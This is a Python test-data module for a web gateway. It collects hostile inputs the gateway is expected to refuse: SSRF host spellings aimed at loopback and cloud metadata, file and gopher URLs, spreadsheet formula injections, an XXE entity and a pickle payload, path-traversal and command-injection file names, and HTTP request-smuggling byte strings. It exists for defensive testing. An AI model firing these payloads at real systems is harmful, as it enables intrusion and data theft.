"""What attackers send to the gateway and have it fetch, as data.

``tests/gateway/test_attack_requests.py`` walks all of it; who finds a new attack adds a line.
"""

HOSTS_THAT_ARE_NOT_PUBLIC = (
    # this host, however it is written
    *("localhost", "LOCALHOST", "localhost.", "127.0.0.1", "127.0.0.1.", "127.1", "127.0.1"),
    *("127.255.255.254", "2130706433", "017700000001", "0177.0.0.1", "0177.0.0.01"),
    *("0x7f000001", "0x7f.1", "0x7f.0.0.1", "0X7F.0x0.0x0.0x1", "0", "0.0.0.0", "00.0.0.0"),
    *("0x0", "[::1]", "[0:0:0:0:0:0:0:1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"),
    *("[::127.0.0.1]", "[::7f00:1]", "[0000::0001]", "[::ffff:0:127.0.0.1]"),
    *("１２７.0.0.1", "127。0。0。1", "①②⑦.⓪.⓪.①", "ⓛocalhost", "127%2e0%2e0%2e1"),
    # the cloud's metadata
    *("169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518"),
    *("[::ffff:a9fe:a9fe]", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "169.254.170.2"),
    *("100.100.100.200", "192.0.0.192", "[fe80::a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]"),
    # networks that are not public
    *("10.0.0.5", "10.255.255.255", "167772165", "172.16.3.4", "172.31.255.255"),
    *("192.168.1.1", "0xc0a80101", "100.64.0.1", "192.0.2.1", "198.18.0.1", "198.51.100.7"),
    *("203.0.113.9", "224.0.0.1", "239.255.255.250", "240.0.0.1", "255.255.255.255"),
    *("[fe80::1]", "[fe80::1%25eth0]", "[fec0::1]", "[fc00::1]", "[fd12:3456::1]", "[ff02::1]"),
    *("[ff05::1:3]", "[2001:db8::1]", "[100::1]", "[3fff::1]", "[5f00::1]"),
    # IPv4 inside IPv6
    *("[64:ff9b::7f00:1]", "[64:ff9b::a00:5]", "[64:ff9b:1::a00:5]", "[2002:7f00:1::]"),
    *("[2002:a00:5::1]", "[2002:a9fe:a9fe::]", "[2001:0:7f00:1::1]", "[2001:0:4136::f5ff:fffa]"),
    *("[::10.0.0.5]", "[::ffff:10.0.0.5]", "[::ffff:c0a8:101]"),
)
"""Each is refused wherever it stands: in a URL that is fetched, a redirect, a connection."""

URLS_THAT_ARE_REFUSED = (
    # other schemes
    *("file:///etc/passwd", "FILE:///etc/passwd", "file://localhost/etc/passwd", "/etc/passwd"),
    *("gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "ftp://host.test/a.mp4"),
    *("ldap://127.0.0.1/", "jar:http://host.test!/a", "data:video/mp4;base64,AAAA", "tftp://h/a"),
    *("netdoc:///etc/passwd", "javascript:alert(1)", "unix:///run/docker.sock", "//127.0.0.1/"),
    *("concat:/etc/passwd", "subfile:///etc/passwd", "pipe:0", "rtmp://127.0.0.1/a", "http:a"),
    # credentials, and hosts that look like another
    *("http://user:hush@host.test/", "http://host.test@127.0.0.1/", "http://a:b@127.0.0.1/"),
    *("http://127.0.0.1#@host.test/", "http://127.0.0.1\\@host.test/", "http://@127.0.0.1/"),
    *("http://127.0.0.1?@host.test/", "http://host.test\\@127.0.0.1/", "http://[::1]@host.test/"),
    # ports
    *("http://host.test:22/", "http://host.test:6379/", "http://host.test:2375/containers/json"),
    *("http://host.test:99999/", "http://host.test:0/", "http://host.test:-1/", "http://h:80a/"),
    # what is no URL
    *("", " ", "http://", "http:///a", "http://[::1/", "http://]/", "http://[", "http:///", "://a"),
    *("http://ho st.test/", "http://host.test\r\nX: y/", "http://ho\0st.test/", "http://\ud800/"),
    # buckets
    *("s3://", "s3://bucket", "s3:///key", "s3://a/../b", "s3://UPPER/key", "s3://a b/key"),
    *("s3://bucket/../../other/key", "s3://127.0.0.1:9000/key", "s3://bucket@host/key"),
)
"""Each is refused before anything is looked up or connected to, or leads to no public place."""

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1"'),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://h/?"&A1,"x")'),
    *("=IMPORTXML(CONCAT(1),2)", "-2+3+cmd|' /C calc'!D2", "'=1+1", "a;=1+1", "a,=1+1", "a\t=1+1"),
    *("a|=1+1", "''=1", "-", "=", "@", "+", "a;'=1", "\t", "-1", "+49"),
)
"""Texts that a spreadsheet would run, or take for the border of two cells and then run."""

HARMLESS_TEXTS = ("mouse", "l'animal", "'quoted'", "a-b", "a=b", "x@y", "1", "", "Mäuse 🐭", "a;b")


def _nested(opening: str, closing: str, depth: int) -> bytes:
    return (opening * depth + closing * depth).encode()


JSON_VALUES: dict[str, bytes] = {
    "a number of 5000 digits": b"9" * 5000,
    "a number beyond 64 bits": b"9" * 30,
    "a negative number beyond 64 bits": b"-" + b"9" * 30,
    "a number that is infinite": b"1e400",
    "a fraction of 5000 digits": b"0." + b"1" * 5000,
    "NaN": b"NaN",
    "infinity": b"Infinity",
    "minus infinity": b"-Infinity",
    "half a character": rb'"\ud800"',
    "halves of a character in the wrong order": rb'"\udc00\ud800"',
    "a null character": rb'"a\u0000b"',
    "a raw null character": b'"a\0b"',
    "bytes that are no UTF-8": b'"\xff\xfe\xfd"',
    "an overlong encoding": b'"\xc0\xaf"',
    "a half character in UTF-8": b'"\xed\xa0\x80"',
    "a line break": b'"a\nb"',
    "lists in each other": _nested("[", "]", 100_000),
    "lists in each other, few": _nested("[", "]", 20_000),
    "lists nested as deep as can just be read": _nested("[", "]", 900),
    "objects in each other": _nested('{"a":', "}", 50_000).replace(b":}", b":1}"),
    "objects in each other, few": _nested('{"a":', "}", 5000).replace(b":}", b":1}"),
    "objects nested as deep as can just be read": _nested('{"a":', "}", 900).replace(b":}", b":1}"),
    "lists that do not end": b"[" * 200_000,
    "very many empty lists": b"[" + b"[]," * 100_000 + b"[]]",
    "very many names": b"{" + b",".join(b'"k%d":0' % i for i in range(20_000)) + b"}",
    "a name that comes twice": b'{"a":1,"a":2}',
    "a name of 200 kB": b'{"' + b"k" * 200_000 + b'":1}',
    "a name that is a method's": b'{"__class__":{"__init__":{"__globals__":1}}}',
    "a text of 200 kB": b'"' + b"x" * 200_000 + b'"',
    "markup": b'"<script>alert(1)</script>"',
    "a template": b'"{{7*7}}${7*7}#{7*7}%s%n{0.__class__}"',
    "a query": b'"\' OR 1=1; DROP TABLE tasks; --"',
    "a path": b'"../../../../etc/passwd"',
    "text that runs backwards": '"a\u202egnp.exe"'.encode(),
    "true": b"true",
    "null": b"null",
    "a list": b"[]",
    "an object": b"{}",
    "a number": b"1",
    "a text": b'"text"',
}
"""As a body, and as the value of each field of one."""

JSON_BODIES: dict[str, bytes] = {
    **JSON_VALUES,
    "nothing": b"",
    "blanks": b" " * 1000,
    "an object that breaks off": b'{"file_path": "a',
    "two objects": b"{}{}",
    "a mark of UTF-8": b"\xef\xbb\xbf{}",
    "UTF-16": '{"file_path": "a"}'.encode("utf-16"),
    "UTF-32": '{"file_path": "a"}'.encode("utf-32"),
    "UTF-7": b"+AHs-+AH0-",
    "YAML": b"a: &a [*a]",
    "XML": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a pickle": b"cos\nsystem\n(S'true'\ntR.",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
}

KEYS_THAT_CLIMB = (
    *("..", "../x", "../../etc/passwd", "a/../../x", "a/../../bob/x", "./x", "a/./x", "a//x"),
    *("/etc/passwd", "//x", "a/..", "a/../..", "..\\x", "a\\..\\x", "%2e%2e/x", "..%2fx"),
    *(".hidden", "a/.hidden", ".", "a/.", "...", "~", "~root/x", "$HOME/x", "`id`", "a;id", "|id"),
    *("a\0", "a\0.mp4", "\0", "a\nb", "a\r\nX: y", "a\tb", "a\x7f", "a\x1b[31m", "a\x85b"),
    *("．．/x", "‥/x", "a／x", "a⁄x", "a∕x", "\u202ex", "a\u2028b", "\ufeffa", "x\u0301" * 300),
    *(
        "C:\\x",
        "c:/x",
        "\\\\host\\x",
        "CON",
        "nul.txt",
        "a:b",
        "a:$DATA",
        "a*",
        "a?b",
        "a<b",
        "a#b",
    ),
    *("x" * 300, "x" * 1024, "a/" * 500 + "x", "ü" * 200, "🐭" * 80, "a ", " a", "a.", "a/ /b"),
    *("file:///etc/passwd", "http://127.0.0.1/", "s3://bucket/x", "users/bob/x", "../ada2/x"),
    *("-rf", "--help", "@x", "=1+1", "con/../x", "\xff", "\x80", "a%00b", "%", "%zz", "a%", "+"),
)
"""Keys of files: each is refused, or leads to a place below the user's own prefix."""

FILE_NAMES = (
    *("../../../etc/passwd", "..\\..\\x.mp4", ".hidden", "/", "..", ".", "", " ", "a/../b.mp4"),
    *("ü" * 300, "a\tb.mp4", "-rf.mp4", "=1+1.mp4", "CON.mp4", "a\x7f.mp4", "\u202egnp.mp4"),
    *("$(id).mp4", "`id`.mp4", "a;id.mp4", "x" * 3000 + ".mp4", "a.mp4/", "~root", "％２ｅ％２ｅ"),
)
"""Names that a client gives its upload."""

_HOST = b"Host: x\r\n"
_SECOND = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\nX-Smuggled: yes\r\n\r\n"

SMUGGLED: dict[str, bytes] = {
    "two lengths": b"POST /healthz HTTP/1.1\r\n" + _HOST + b"Content-Length: 0\r\n"
    b"Content-Length: 70\r\n\r\n" + _SECOND,
    "length and chunks": b"POST /healthz HTTP/1.1\r\n" + _HOST + b"Content-Length: 6\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SECOND,
    "chunks and length": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n"
    + _SECOND,
    "an encoding that is none": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"
    + _SECOND,
    "an encoding in two headers": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n"
    + _SECOND,
    "a blank before the colon": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"
    + _SECOND,
    "a folded header": b"POST /healthz HTTP/1.1\r\n" + _HOST + b"Transfer-Encoding:\r\n"
    b" chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + _SECOND,
    "a vertical tab": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"
    + _SECOND,
    "a negative length": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Content-Length: -1\r\n\r\n"
    + _SECOND,
    "a length with a sign": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Content-Length: +0\r\n\r\n"
    + _SECOND,
    "a length in hexadecimal": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Content-Length: 0x0\r\n\r\n"
    + _SECOND,
    "a length that is a list": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Content-Length: 0, 70\r\n\r\n"
    + _SECOND,
    "a length beyond all bounds": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Content-Length: "
    + b"9" * 5000
    + b"\r\n\r\n"
    + _SECOND,
    "a chunk's size beyond all bounds": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: chunked\r\n\r\n"
    + b"f" * 40
    + b"\r\n"
    + _SECOND,
    "a chunk's size that is negative": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n"
    + _SECOND,
    "a chunk without its end": b"POST /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n"
    + _SECOND,
    "a line feed alone": b"POST /healthz HTTP/1.1\n"
    + _HOST
    + b"Content-Length: 0\nTransfer-Encoding: chunked\n\n"
    + _SECOND,
    "a carriage return alone": b"GET /healthz HTTP/1.1\r\nHost: x\rX: y\r\n\r\n" + _SECOND,
    "a null character in a header": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n"
    + _SECOND,
    "a name with a blank": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX Y: z\r\n\r\n" + _SECOND,
    "a line without a colon": b"GET /healthz HTTP/1.1\r\nHost: x\r\nXYZ\r\n\r\n" + _SECOND,
    "HTTP of another version": b"GET /healthz HTTP/9.9\r\n" + _HOST + b"\r\n" + _SECOND,
    "no version": b"GET /healthz\r\n\r\n" + _SECOND,
    "a method that is none": b"G\0T /healthz HTTP/1.1\r\n" + _HOST + b"\r\n" + _SECOND,
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64,
    "SSH": b"SSH-2.0-OpenSSH_9.2\r\n",
    "a tunnel": b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n" + _HOST + b"\r\nSSH-2.0-x\r\n",
    "null characters": b"\0" * 4096 + b"\r\n\r\n",
}
"""One request for who reads it one way, two for who reads it another: never two answers."""

ODD_REQUESTS: dict[str, bytes] = {
    "HTTP/1.0": b"GET /healthz HTTP/1.0\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n",
    "two hosts": b"GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
    "a whole address": b"GET http://169.254.169.254/latest HTTP/1.1\r\n"
    + _HOST
    + b"Connection: close\r\n\r\n",
    "a star": b"OPTIONS * HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n",
    "a path that climbs": b"GET /../../etc/passwd HTTP/1.1\r\n"
    + _HOST
    + b"Connection: close\r\n\r\n",
    "a path that climbs in disguise": b"GET /static-offline-docs/..%2f..%2f..%2fetc/passwd "
    b"HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n",
    "bytes in a path": b"GET /\xff\xfe HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n",
    "bytes in a path, escaped": b"GET /status/%ff%00 HTTP/1.1\r\n"
    + _HOST
    + b"Connection: close\r\n\r\n",
    "a fragment": b"GET /healthz#a HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n",
    "very many parameters": b"GET /tasks/?"
    + b"state=x&" * 3000
    + b" HTTP/1.1\r\n"
    + _HOST
    + b"Connection: close\r\n\r\n",
    "another protocol": b"GET /healthz HTTP/1.1\r\n"
    + _HOST
    + b"Connection: close, Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA\r\n\r\n",
    "an expectation": b"POST /tasks/ HTTP/1.1\r\n" + _HOST + b"Expect: 100-continue\r\n"
    b"Content-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    "an expectation that is none": b"POST /tasks/ HTTP/1.1\r\n" + _HOST + b"Expect: the worst\r\n"
    b"Content-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
    "very many small chunks": b"POST /video/download HTTP/1.1\r\n"
    + _HOST
    + b"Content-Type: application/json\r\nConnection: close\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 20_000 + b"0\r\n\r\n",
    "a trace": b"TRACE /healthz HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n",
    "a socket without its key": b"GET /ws/tasks/t-1 HTTP/1.1\r\n"
    + _HOST
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "a socket of another version": b"GET /ws/tasks/t-1 HTTP/1.1\r\n"
    + _HOST
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 99\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
}
"""Each has one answer, and no error of ours."""

HEADERS = (
    *(("X-API-Key", value) for value in ("", " ", "av_", "a" * 8000, "\xe9\xff", "av_'--", "[]")),
    *(("Authorization", value) for value in ("Bearer", "Bearer ", "Basic Og==", "bearer a b c")),
    ("Authorization", "Digest " + "a" * 5000),
    *(("Range", f"bytes={value}") for value in ("-", "5-1", "-0", "9" * 5000 + "-", "0-0,1-1")),
    *(("Range", value) for value in ("bytes=0-" + ",0-" * 2000, "apples=1-2", "bytes=²-³", "-1-")),
    *(("Last-Event-ID", value) for value in ("-1", "9" * 30, "9" * 5000, "1e3", "²", "NaN")),
    *(("Idempotency-Key", value) for value in ("", "a" * 6000, "\xe9\xff", "a\tb", "' OR 1=1")),
    *(
        ("Content-Type", value)
        for value in ("", "a", "multipart/form-data", "application/json;" * 99)
    ),
    ("Content-Type", "multipart/form-data; boundary=" + "b" * 5000),
    ("Content-Type", "multipart/form-data; boundary=\xff"),
    *(("X-Request-ID", value) for value in ("a" * 5000, "\xe9", "a b", "../x")),
    *(("Accept-Encoding", "gzip, " * 900), ("Accept", "*/*," * 1500), ("Cookie", "a=b; " * 1500)),
    *(("X-Forwarded-For", "127.0.0.1, " * 300), ("X-Forwarded-For", "'"), ("Forwarded", "for=_")),
    *(("X-HTTP-Method-Override", "DELETE"), ("Origin", "null"), ("Host", "169.254.169.254")),
)
"""Each sent along with a request that is fine without it."""
